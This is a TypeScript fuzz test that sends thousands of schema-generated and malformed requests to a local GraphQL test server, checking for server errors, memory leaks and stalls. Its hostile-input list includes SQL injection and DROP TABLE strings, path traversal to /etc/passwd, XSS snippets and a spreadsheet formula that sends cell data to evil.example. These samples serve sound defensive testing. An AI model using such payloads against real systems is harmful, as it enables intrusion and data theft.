// The abuse probe, kept: 10,000+ requests generated from the schema with hostile values (and
// malformed requests besides) against the real server on the embedded database, loopback only.
// No answer may be a 5xx or a masked internal error ("Unexpected error."): every refusal is the
// client's, with its own message. Memory stays bounded, and a normal query keeps answering
// during and after. The generator is seeded: FUZZ_SEED repeats a run, FUZZ_REQUESTS sizes it.

import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import {
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
  type GraphQLObjectType,
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isInterfaceType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  isUnionType,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { schema } from '../../src/schema.js';
import { databaseKind } from '../support/database.js';
import { startTestServer, type TestServer } from '../support/testServer.js';

/** A full garbage collection, so that heap figures show what is retained rather than not yet collected. */
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;
const retainedHeap = () => {
  collectGarbage();
  return process.memoryUsage().heapUsed;
};

const requestCount = Number(process.env.FUZZ_REQUESTS ?? 10_000);
const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 1_000_000);
const concurrency = 8;

/** mulberry32: small, fast, and the same sequence for the same seed. */
function random(seedValue: number) {
  let state = seedValue >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const next = random(seed);
const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
const chance = (p: number) => next() < p;

const hostileStrings = [
  '',
  ' ',
  'x'.repeat(10_000),
  'a\u0000b',
  'a\uD800b',
  '\uDC00',
  "' OR 1=1 --",
  '"; DROP TABLE "Contact"; --',
  '%',
  '_',
  '\\',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '\u202Eevil',
  '😀'.repeat(50),
  '16065',
  '0000-01-01',
  '2019-02-30',
  '9999-12-31',
  '99:99',
  'de',
  'Arabic',
  'R1BDOlg6eHg=',
  'nonsense',
  'RGlzdHJpY3Q6MTYwNjU=',
  'Q29udGFjdDp1bmtub3du',
  'QXVkaXRFdmVudDox',
  'integration-guide',
  'TH',
  'http://example.org',
  'javascript:alert(1)',
  // Global IDs whose keys no database stores, and phone numbers a lax reader would accept.
  Buffer.from('Contact:\u0000').toString('base64'),
  Buffer.from('Offer:a\uD800').toString('base64'),
  '650-123',
  '03632 / 74O-273',
  '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
  '</script><script>alert(1)</script>',
];
const hostileNumbers = [0, -1, 1, 2, 100, 101, 2_147_483_647, 2_147_483_648, -2_147_483_649, 1e308, -1e308, 0.5, 1e21];

/** A JSON value nested `depth` levels deep (objects in lists), built without recursion. */
function nestedValue(depth: number): unknown {
  let value: unknown = {};
  for (let level = 0; level < depth; level++) value = level % 2 ? { a: value } : [value];
  return value;
}

function valueFor(type: GraphQLInputType, depth: number): unknown {
  if (chance(0.04)) return null;
  const bare = getNullableType(type);
  if (isListType(bare)) {
    const length = pick([0, 1, 2, 3, 150]);
    return Array.from({ length }, () => valueFor(bare.ofType, depth + 1));
  }
  if (isInputObjectType(bare)) {
    if (depth > 4) return {};
    const fields = Object.values(bare.getFields());
    return Object.fromEntries(
      fields.filter((field) => isNonNullType(field.type) || chance(0.5)).map((field) => [field.name, valueFor(field.type, depth + 1)]),
    );
  }
  if (isEnumType(bare)) return chance(0.85) ? pick(bare.getValues()).name : pick(['NOPE', '', 'x'.repeat(300)]);
  if (isScalarType(bare)) {
    switch (bare.name) {
      case 'Int':
      case 'Float':
        return chance(0.9) ? pick(hostileNumbers) : pick(['1', true, {}]);
      case 'Boolean':
        return chance(0.9) ? chance(0.5) : pick(['true', 0]);
      case 'JSONObject':
        return pick([{}, { schemaVersion: 1 }, { district: '16065', tables: { offers: [{ id: 1 }] } }, [], 'x', nestedValue(1_000)]);
      case '_Any':
        return pick([{ __typename: 'District', ags: '16065' }, { __typename: 'Nope' }, {}, 'x', { __typename: 'District' }]);
      default:
        return chance(0.95) ? pick(hostileStrings) : pick([1, true, {}]);
    }
  }
  return null;
}

function argumentsFor(field: GraphQLField<unknown, unknown>, variables: Map<string, [string, unknown]>): string {
  const chosen = field.args.filter((arg) => isNonNullType(arg.type) || chance(0.4));
  if (!chosen.length) return '';
  const written = chosen.map((arg: GraphQLArgument) => {
    const name = `v${variables.size}`;
    variables.set(name, [String(arg.type), valueFor(arg.type, 0)]);
    return `${arg.name}: $${name}`;
  });
  return `(${written.join(', ')})`;
}

function selectionFor(type: GraphQLNamedType, depth: number, variables: Map<string, [string, unknown]>): string {
  if (isUnionType(type)) {
    return `{ __typename ${type
      .getTypes()
      .slice(0, 3)
      .map((member) => `... on ${member.name} ${selectionFor(member, depth + 1, variables)}`)
      .join(' ')} }`;
  }
  if (!isObjectType(type) && !isInterfaceType(type)) return '';
  const fields = Object.values((type as GraphQLObjectType).getFields());
  const chosen = Array.from({ length: 1 + Math.floor(next() * 4) }, () => pick(fields));
  const parts = [...new Set(chosen)].map((field) => {
    const inner = getNamedType(field.type);
    const leaf = !isObjectType(inner) && !isInterfaceType(inner) && !isUnionType(inner);
    if (!leaf && depth >= 4) return '__typename';
    return `${field.name}${argumentsFor(field, variables)}${leaf ? '' : ` ${selectionFor(inner, depth + 1, variables)}`}`;
  });
  return `{ ${parts.join(' ')} }`;
}

interface Probe {
  init: RequestInit & { headers?: Record<string, string> };
  path?: string;
  /** A reminder of what was sent, for a failure message. */
  label: string;
}

function operationProbe(): Probe {
  const mutation = chance(0.25);
  const root = mutation ? schema.getMutationType()! : schema.getQueryType()!;
  const field = pick(Object.values(root.getFields()));
  const variables = new Map<string, [string, unknown]>();
  const inner = getNamedType(field.type);
  const selection = isScalarType(inner) || isEnumType(inner) ? '' : ` ${selectionFor(inner, 1, variables)}`;
  const body = `${field.name}${argumentsFor(field, variables)}${selection}`;
  const declarations = [...variables.entries()].map(([name, [type]]) => `$${name}: ${type}`).join(', ');
  const query = `${mutation ? 'mutation' : 'query'}${declarations ? ` (${declarations})` : ''} { ${body} }`;
  const values = Object.fromEntries([...variables.entries()].map(([name, [, value]]) => [name, value]));
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  if (chance(0.1)) headers.authorization = pick(['Bearer igt_wrong', 'Basic abc', 'Bearer ', 'Bearer x.y.z']);
  return { init: { method: 'POST', headers, body: JSON.stringify({ query, variables: values }) }, label: query.slice(0, 300) };
}

/** Requests malformed at the HTTP or GraphQL-over-HTTP level. */
function malformedProbe(): Probe {
  const query = encodeURIComponent('{ states { code } }');
  const probes: Probe[] = [
    { init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query": ' }, label: 'truncated JSON' },
    { init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' }, label: 'array body' },
    { init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query": 42}' }, label: 'query not a string' },
    { init: { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{ states { code } }' }, label: 'text/plain' },
    {
      init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query":"{ states { code } }","variables":"x"}' },
      label: 'variables a string',
    },
    { init: { method: 'GET' }, path: `?query=${query}&variables=oops`, label: 'GET variables oops' },
    { init: { method: 'GET' }, path: `?query=${query}&extensions=[1]`, label: 'GET extensions array' },
    { init: { method: 'GET' }, path: `?query=${encodeURIComponent('mutation { __typename }')}`, label: 'mutation over GET' },
    { init: { method: 'PUT', body: '{}' }, label: 'PUT' },
    {
      init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: `{ ${'['.repeat(3000)} }` }) },
      label: 'brackets',
    },
    {
      init: {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: `{"query":"{ __typename }","variables":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`,
      },
      label: 'deep variables',
    },
    {
      init: {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: `{"query":"query ($v: JSONObject) { __typename }","variables":{"v":{"a":${'[{"a":'.repeat(5000)}1${'}]'.repeat(5000)}}}}`,
      },
      label: 'a JSON variable nested 10,000 levels',
    },
    {
      init: {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ query: '{ a: states { code } }', operationName: 'Nope' }),
      },
      label: 'unknown operation',
    },
    {
      init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: 'x'.repeat(90_000) }) },
      label: 'long garbage',
    },
  ];
  return pick(probes);
}

describe.skipIf(databaseKind === 'postgresql')('fuzzing the API (embedded database)', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer();
  });
  afterAll(() => server?.close());

  const normalQuery = async () => {
    const response = await server.graphql('{ district(ags: "16065") { name contacts { totalCount } } }');
    expect(response.data?.district?.name).toBe('Kyffhäuserkreis');
  };

  test(`${requestCount} generated and malformed requests: no 5xx, no masked error, memory bounded, a normal query answered throughout`, async () => {
    console.log(`fuzz: FUZZ_SEED=${seed}`);
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    const rssBefore = process.memoryUsage().rss;
    // Caches (parsed documents, validation results) fill during the first fifth; heap retained
    // after that is what would grow without bound.
    let heapWarm = 0;
    let worstNormalMs = 0;
    let sent = 0;
    let running = true;

    const watcher = (async () => {
      while (running) {
        const started = performance.now();
        await normalQuery();
        worstNormalMs = Math.max(worstNormalMs, performance.now() - started);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    })();
    const worker = async () => {
      while (sent < requestCount) {
        if (++sent === Math.floor(requestCount / 5)) heapWarm = retainedHeap();
        const probe = chance(0.9) ? operationProbe() : malformedProbe();
        const response = await fetch(server.url + (probe.path ?? ''), probe.init);
        const text = await response.text();
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
        if (response.status >= 500) failures.push(`${response.status} for ${probe.label}: ${text.slice(0, 200)}`);
        else if (text.includes('Unexpected error.')) failures.push(`masked error for ${probe.label}: ${text.slice(0, 200)}`);
      }
    };
    const started = performance.now();
    await Promise.all(Array.from({ length: concurrency }, worker));
    const seconds = (performance.now() - started) / 1000;
    running = false;
    await watcher;
    const afterStarted = performance.now();
    await normalQuery();
    const afterMs = performance.now() - afterStarted;
    const rssGrowthMb = (process.memoryUsage().rss - rssBefore) / 2 ** 20;
    const heapLateGrowthMb = (retainedHeap() - heapWarm) / 2 ** 20;

    console.log(
      `fuzz: ${requestCount} requests in ${seconds.toFixed(1)} s (${Math.round(requestCount / seconds)}/s); statuses ${JSON.stringify(Object.fromEntries(statuses))}; ` +
        `RSS +${rssGrowthMb.toFixed(0)} MB, retained heap ${heapLateGrowthMb >= 0 ? '+' : ''}${heapLateGrowthMb.toFixed(1)} MB after the first fifth; normal query worst ${worstNormalMs.toFixed(0)} ms during, ${afterMs.toFixed(0)} ms after`,
    );
    expect(failures.slice(0, 20)).toEqual([]);
    // Bounds that catch a leak or a stall, not a slow machine.
    expect(heapLateGrowthMb).toBeLessThan(64);
    expect(rssGrowthMb).toBeLessThan(1_024);
    expect(worstNormalMs).toBeLessThan(5_000);
  }, 600_000);
});
